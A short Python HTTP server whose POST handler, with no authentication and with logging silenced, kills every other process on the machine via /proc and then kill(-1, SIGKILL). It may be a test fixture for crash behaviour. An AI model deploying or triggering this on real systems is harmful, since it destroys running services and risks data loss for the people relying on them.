import os
import signal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()

    def do_POST(self):
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                for number in (signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(int(entry), number)
                    except OSError:
                        pass
        os.kill(-1, signal.SIGKILL)

    def log_message(self, *_):
        pass


if __name__ == "__main__":
    ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
